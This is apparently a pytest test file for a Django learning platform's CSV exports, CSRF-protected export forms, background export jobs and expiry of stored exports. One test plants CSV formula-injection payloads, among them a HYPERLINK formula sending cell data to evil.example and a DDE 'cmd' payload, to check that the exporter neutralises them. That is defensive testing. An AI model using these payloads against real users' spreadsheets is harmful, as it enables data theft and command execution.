"""CSV exports (parsed back and checked), the training-record export job (eagerly and on a real worker), expiry."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from cms.celery import app
from lessons.models import Certificate, ExportJob
from lessons.organisations import exports
from lessons.organisations.reports import training_record_header
from lessons.tasks import expire_exports
from tests.factories import (
    GroupFactory,
    OrganisationFactory,
    assign,
    complete_lesson,
    course_with_lessons,
    member,
    org_admin,
    quiz_attempt,
)


def parse(content):
    return list(csv.DictReader(io.StringIO(content.decode() if isinstance(content, bytes) else content)))


def build_team():
    """A business team: Ann completed AI at work with a certificate, Ben tried one quiz."""
    organisation = OrganisationFactory(name="Northwind", slug="northwind", kind="business")
    group = GroupFactory(organisation=organisation, name="Support")
    course, (first, second) = course_with_lessons(title="AI at work")
    assignment = assign(group, course, due_date=datetime.date(2030, 6, 30))
    ann = member(group, username="ann", first_name="Ann", last_name="Able", email="ann@example.org")
    ben = member(
        group, username="ben", email="ben@example.org", first_name="", last_name=""
    )  # no name: the username stands in
    complete_lesson(ann, first, score=70)
    complete_lesson(ann, second, score=90)
    quiz_attempt(ben, first, 30)
    Certificate.objects.create(user=ann, course=course, learner_name="Ann Able", course_title="AI at work", code="C0DE")
    return organisation, group, assignment, org_admin(organisation)


def assert_training_record(content, assignment):
    rows = parse(content)
    assert list(rows[0].keys()) == training_record_header(assignment.group.organisation)
    assigned = assignment.assigned_at.date().isoformat()
    ann, ben = rows
    assert ann == {  # a business: its columns say "staff member" and "team"
        "staff member": "Ann Able",
        "username": "ann",
        "email": "ann@example.org",
        "team": "Support",
        "course": "AI at work",
        "assigned": assigned,
        "due": "2030-06-30",
        "completed": datetime.date.today().isoformat(),
        "best quiz score (%)": "80",
        "certificate code": "C0DE",
        "language": "",
    }
    assert (ben["staff member"], ben["completed"], ben["best quiz score (%)"], ben["certificate code"]) == (
        "ben",
        "",
        "30",
        "",
    )


@pytest.mark.django_db
def test_group_progress_csv_has_a_line_per_learner_and_lesson(client):
    organisation, group, assignment, admin = build_team()
    client.force_login(admin)
    response = client.post(reverse("lessons:org:group-progress-csv", args=[group.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="progress-group-' in response["Content-Disposition"]
    rows = parse(response.content)
    assert list(rows[0].keys()) == exports.group_progress_header(organisation)
    assert [(r["username"], r["lesson"], r["done"], r["best quiz score (%)"], r["quiz attempts"]) for r in rows] == [
        ("ann", "What AI is", "yes", "70", "1"),
        ("ann", "How models learn", "yes", "90", "1"),
        ("ben", "What AI is", "no", "30", "1"),
        ("ben", "How models learn", "no", "", "0"),
    ]
    assert {r["course"] for r in rows} == {"AI at work"} and {r["due"] for r in rows} == {"2030-06-30"}
    assert [r["course completed"] != "" for r in rows] == [True, True, False, False]


@pytest.mark.django_db
def test_training_record_csv_direct_download(client):
    organisation, group, assignment, admin = build_team()
    client.force_login(admin)
    response = client.post(reverse("lessons:org:training-record-csv", args=[organisation.slug]))
    assert response.status_code == 200
    assert_training_record(response.content, assignment)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["group-progress-csv", "training-record-csv", "export-start"])
def test_exports_start_only_from_a_post(client, name):
    """A link or an <img> on another site cannot make a signed-in admin build an export (and no job is made)."""
    organisation, group, assignment, admin = build_team()
    client.force_login(admin)
    args = [group.pk] if name == "group-progress-csv" else [organisation.slug]
    response = client.get(reverse(f"lessons:org:{name}", args=args))
    assert response.status_code == 405 and response["Allow"] == "POST"
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_the_export_buttons_are_csrf_protected_forms(client):
    organisation, group, assignment, admin = build_team()
    client.force_login(admin)
    pages = [
        (reverse("lessons:org:group", args=[group.pk]), [reverse("lessons:org:group-progress-csv", args=[group.pk])]),
        (
            reverse("lessons:org:organisation", args=[organisation.slug]),
            [
                reverse("lessons:org:training-record-csv", args=[organisation.slug]),
                reverse("lessons:org:export-start", args=[organisation.slug]),
            ],
        ),
        (
            reverse("lessons:org:training-record", args=[organisation.slug]),
            [reverse("lessons:org:training-record-csv", args=[organisation.slug])],
        ),
    ]
    for page, actions in pages:
        html = client.get(page).content.decode()
        for action in actions:
            form = html[html.index(f'<form method="post" action="{action}">') :]
            assert 'name="csrfmiddlewaretoken"' in form[: form.index("</form>")], (page, action)
            assert f'href="{action}"' not in html

    csrf_client = client.__class__(enforce_csrf_checks=True)
    csrf_client.force_login(admin)
    assert csrf_client.post(reverse("lessons:org:training-record-csv", args=[organisation.slug])).status_code == 403


@pytest.mark.django_db
def test_every_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(
    client, django_capture_on_commit_callbacks
):
    organisation, group, assignment, admin = build_team()
    evil = {
        "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "last_name": "",
        "username": "@SUM",
        "email": "-2+3@example.org",
    }
    member(group, **evil)
    assignment.course.title = "+cmd|' /C calc'!A0"
    assignment.course.save_revision().publish()
    client.force_login(admin)

    group_csv = parse(client.post(reverse("lessons:org:group-progress-csv", args=[group.pk])).content)
    record_csv = parse(client.post(reverse("lessons:org:training-record-csv", args=[organisation.slug])).content)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("lessons:org:export-start", args=[organisation.slug]))
    job_csv = parse(ExportJob.objects.get().content)

    for rows in (group_csv, record_csv, job_csv):
        row = next(r for r in rows if r["username"] == "'@SUM")
        assert row["staff member"] == """'=HYPERLINK("http://evil.example/?x="&A1,"Click")"""
        assert row["course"] == "'+cmd|' /C calc'!A0"
        for value in (cell for r in rows for cell in r.values()):
            assert not value.startswith(exports.FORMULA_TRIGGERS), value
    assert next(r for r in record_csv if r["username"] == "'@SUM")["email"] == "'-2+3@example.org"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Ann = Able", "Ann = Able"),
        (80, "80"),
        (None, ""),
    ],
)
def test_spreadsheet_safe_prefixes_formula_starts_with_a_quote(cell, written):
    assert exports.spreadsheet_safe(cell) == written


@pytest.mark.django_db
def test_printable_training_record_lists_the_same_facts(client):
    organisation, group, assignment, admin = build_team()
    client.force_login(admin)
    html = client.get(reverse("lessons:org:training-record", args=[organisation.slug])).content.decode()
    assert "AI-literacy training record" in html and "Northwind" in html
    assert "Ann Able" in html and "C0DE" in html and "80%" in html and "2030-06-30" in html and "not yet" in html


@pytest.mark.django_db
def test_a_large_record_is_handed_to_a_background_job(client, monkeypatch, django_capture_on_commit_callbacks):
    organisation, group, assignment, admin = build_team()
    monkeypatch.setattr(exports, "DIRECT_EXPORT_ROW_LIMIT", 1)
    client.force_login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("lessons:org:training-record-csv", args=[organisation.slug]))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("lessons:org:export", args=[job.pk])
    job.refresh_from_db()
    assert (job.status, job.progress, job.total, job.requested_by) == ("done", 2, 2, admin)
    assert_training_record(job.content, assignment)


@pytest.mark.django_db
def test_a_large_printable_record_points_to_the_export_without_starting_one(client, monkeypatch):
    organisation, group, assignment, admin = build_team()
    monkeypatch.setattr(exports, "DIRECT_EXPORT_ROW_LIMIT", 1)
    client.force_login(admin)
    response = client.get(reverse("lessons:org:training-record", args=[organisation.slug]), follow=True)
    assert response.redirect_chain == [(reverse("lessons:org:organisation", args=[organisation.slug]), 302)]
    assert b"too long for one page" in response.content and not ExportJob.objects.exists()


def finished_export(organisation, admin, days_ago):
    return ExportJob.objects.create(
        organisation=organisation,
        requested_by=admin,
        status=ExportJob.Status.DONE,
        content="staff member\nAnn Able\n",
        finished_at=timezone.now() - datetime.timedelta(days=days_ago),
    )


@pytest.mark.django_db
def test_an_export_past_its_retention_cannot_be_downloaded_and_says_so(client, settings):
    settings.EXPORT_RETENTION_DAYS = 7
    organisation, group, assignment, admin = build_team()
    fresh = finished_export(organisation, admin, days_ago=6)
    old = finished_export(organisation, admin, days_ago=8)
    client.force_login(admin)
    assert client.get(reverse("lessons:org:export-download", args=[fresh.pk])).status_code == 200
    page = client.get(reverse("lessons:org:export", args=[fresh.pk])).content.decode()
    assert "Available until" in page

    response = client.get(reverse("lessons:org:export-download", args=[old.pk]))
    assert response.status_code == 410 and b"has been deleted" in response.content and b"Ann" not in response.content
    page = client.get(reverse("lessons:org:export", args=[old.pk])).content.decode()
    assert "has been deleted" in page and reverse("lessons:org:export-download", args=[old.pk]) not in page
    assert "Expired" in client.get(reverse("lessons:org:organisation", args=[organisation.slug])).content.decode()


@pytest.mark.django_db
def test_the_periodic_task_deletes_expired_export_files_and_marks_them_expired(settings):
    settings.EXPORT_RETENTION_DAYS = 7
    organisation, group, assignment, admin = build_team()
    fresh = finished_export(organisation, admin, days_ago=6)
    old = finished_export(organisation, admin, days_ago=8)
    running = ExportJob.objects.create(organisation=organisation, status=ExportJob.Status.RUNNING)

    assert expire_exports.delay().get() == {"expired": 1}
    old.refresh_from_db()
    assert (old.status, old.content) == (ExportJob.Status.EXPIRED, "")
    assert ExportJob.objects.filter(content__contains="Ann Able").get() == fresh, "the stored CSV is gone"
    running.refresh_from_db()
    assert running.status == ExportJob.Status.RUNNING
    assert expire_exports.delay().get() == {"expired": 0}


@pytest.mark.django_db
def test_without_a_broker_cron_runs_the_same_expiry(settings):
    settings.EXPORT_RETENTION_DAYS = 7
    organisation, group, assignment, admin = build_team()
    old = finished_export(organisation, admin, days_ago=8)
    out = io.StringIO()
    call_command("expire_exports", stdout=out)
    old.refresh_from_db()
    assert (old.status, old.content) == (ExportJob.Status.EXPIRED, "") and "Expired 1 export(s)" in out.getvalue()


def test_celery_beat_runs_the_expiry_task(settings):
    entry = next(e for e in settings.CELERY_BEAT_SCHEDULE.values() if e["task"] == "lessons.expire_exports")
    assert entry["task"] in app.tasks and entry["schedule"].remaining_estimate(timezone.now()).total_seconds() <= 3600


@pytest.mark.django_db
def test_an_unfinished_export_cannot_be_downloaded_yet(client):
    organisation, group, assignment, admin = build_team()
    job = ExportJob.objects.create(organisation=organisation, requested_by=admin, status=ExportJob.Status.RUNNING)
    client.force_login(admin)
    response = client.get(reverse("lessons:org:export-download", args=[job.pk]))
    assert response.status_code == 409 and b"not ready" in response.content
    fragment = client.get(reverse("lessons:org:export-progress", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in fragment and "Download" not in fragment


@pytest.mark.django_db
def test_a_failing_export_is_marked_failed_and_says_so(client, monkeypatch):
    organisation, group, assignment, admin = build_team()
    job = ExportJob.objects.create(organisation=organisation, requested_by=admin)

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "write_training_record", broken)
    with pytest.raises(RuntimeError):
        exports.run_training_record_export(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and job.error == "disk full" and job.finished_at
    client.force_login(admin)
    fragment = client.get(reverse("lessons:org:export-progress", args=[job.pk])).content.decode()
    assert "The export failed" in fragment and "hx-trigger" not in fragment


def watch_progress(monkeypatch):
    """Record what a polling page would see (status, progress, total) each time the export takes a row."""
    observed = []
    real_rows = exports.training_record_rows

    def watching_rows(organisation):
        for row in real_rows(organisation):
            job = ExportJob.objects.get()
            observed.append((job.status, job.progress, job.total))
            yield row

    monkeypatch.setattr(exports, "training_record_rows", watching_rows)
    monkeypatch.setattr(exports, "PROGRESS_SAVE_EVERY", 10)
    return observed


@pytest.fixture
def large_team(transactional_db):
    """Built before the worker starts (fixture order), so publishing its pages indexes them eagerly here
    instead of queueing tutor tasks that the worker would still be running when the test ends."""
    organisation, group, assignment, admin = build_team()
    for number in range(60):  # 62 rows: several progress saves
        member(group, username=f"staff-{number:02}")
    return organisation, group, assignment, admin


@pytest.mark.celery_worker
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_export_task_runs_on_a_real_worker_and_reports_progress(
    client, large_team, celery_worker, monkeypatch, wait_for
):
    organisation, group, assignment, admin = large_team
    observed = watch_progress(monkeypatch)  # the worker thread runs in this process, so it sees the patch

    client.force_login(admin)
    response = client.post(reverse("lessons:org:export-start", args=[organisation.slug]))
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("lessons:org:export", args=[job.pk])

    def finished():
        job.refresh_from_db()
        return job.is_finished

    assert wait_for(finished), "the export did not finish within a minute"
    assert job.status == "done", job.error
    assert observed == [("running", (k - 1) // 10 * 10, 62) for k in range(1, 63)]
    assert (job.progress, job.total, job.percent) == (62, 62, 100)
    rows = parse(job.content)
    assert len(rows) == 62 and rows[0]["staff member"] == "Ann Able"

    page = client.get(reverse("lessons:org:export", args=[job.pk])).content.decode()
    assert "62 of 62 rows" in page and reverse("lessons:org:export-download", args=[job.pk]) in page
    assert "hx-trigger" not in page, "polling stops when the job is done"
    download = client.get(reverse("lessons:org:export-download", args=[job.pk]))
    assert download.status_code == 200 and parse(download.content) == rows
